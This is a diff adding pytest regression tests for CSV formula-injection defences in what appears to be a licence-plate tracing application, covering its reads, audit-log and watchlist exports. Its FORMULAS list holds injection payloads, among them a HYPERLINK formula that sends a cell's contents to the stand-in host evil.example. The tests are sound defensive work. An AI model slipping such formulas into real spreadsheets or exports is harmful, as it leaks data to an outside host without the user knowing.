@@ -4,6 +4,7 @@ formula injection and the smaller findings) and checks it is refused now."""
 
 from __future__ import annotations
 
+import io
 import json
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
@@ -16,7 +17,7 @@ import pytest
 from argon2 import PasswordHasher
 
 from tests.test_store_support import count, new_store
-from tracing import settings
+from tracing import safecsv, settings
 from tracing.access import audit, passwords, retention, users
 from tracing.errors import AccessError
 from tracing.search import search_plates
@@ -342,3 +343,60 @@ def test_cli_and_first_run_passwords_pass_the_policy(tmp_path: Path,
     with Store(tmp_path / "first.duckdb") as store:
         first = users.bootstrap_admin(store)
         assert first is not None and passwords.check_password(first, "admin") == first
+
+
+# --- 4. CSV formula injection -------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def _assert_inert(text: str) -> None:
+    for cell in _cells(text):
+        assert not cell.startswith(safecsv.FORMULA_STARTS) or safecsv._PLAIN_NUMBER.fullmatch(
+            cell), f"live formula in export: {cell!r}"
+
+
+def test_the_neutralising_writer_keeps_numbers_and_quotes_formulas() -> None:
+    frame = pd.DataFrame({"text": [*FORMULAS, "-12.5", "51A-123.45", None],
+                          "number": [-1.5, -2, 3, 4, 5, 6, -7, 8, 9]})
+    text = safecsv.frame_csv(frame)
+    _assert_inert(text)
+    back = pd.read_csv(io.StringIO(text, newline=""))
+    assert back["number"].tolist() == frame["number"].tolist()  # still numbers
+    assert back["text"].tolist()[:2] == ["'" + FORMULAS[0], "'+1+1"]
+    assert back["text"].tolist()[6:8] == ["-12.5", "51A-123.45"]
+    out = io.StringIO()
+    safecsv.writer(out).writerow([*FORMULAS, -3, "-3"])
+    assert _cells(out.getvalue())[-2:] == ["-3", "-3"]
+    _assert_inert(out.getvalue())
+
+
+def test_every_export_writes_formula_text_inert(tmp_path: Path) -> None:
+    from tracing.alerts import watchlist
+
+    store = new_store(tmp_path / "s.duckdb")
+    rows = pd.DataFrame({"read_id": [f"f{i}" for i in range(len(FORMULAS))], "camera_id": "cam-a",
+                         "ts": GOOD_TS, "plate": "51A-123.45", "vehicle_class": FORMULAS,
+                         "plate_colour": FORMULAS[::-1], "crop_ref": FORMULAS,
+                         "source": FORMULAS})
+    assert store.ingest(rows).inserted == len(FORMULAS)
+    reads = reads_of_plates(store, ["51A-123.45"])
+    _assert_inert(reads_csv(reads))
+    for i, formula in enumerate(FORMULAS):
+        audit.record(store, who="ann", action="export", params={"q": formula},
+                     reason=f"case {i} {formula}" if i else formula)
+    _assert_inert(audit.entries_csv(audit.entries(store)))
+    for i, formula in enumerate(FORMULAS):
+        watchlist.add_watch(store, f"51A-123.4{i}", match_kind="exact", reason=formula,
+                            priority=1, who="ann")
+    exported = watchlist.export_watch_csv(store)
+    _assert_inert(exported)
+    assert "'" + FORMULAS[0] in _cells(exported)
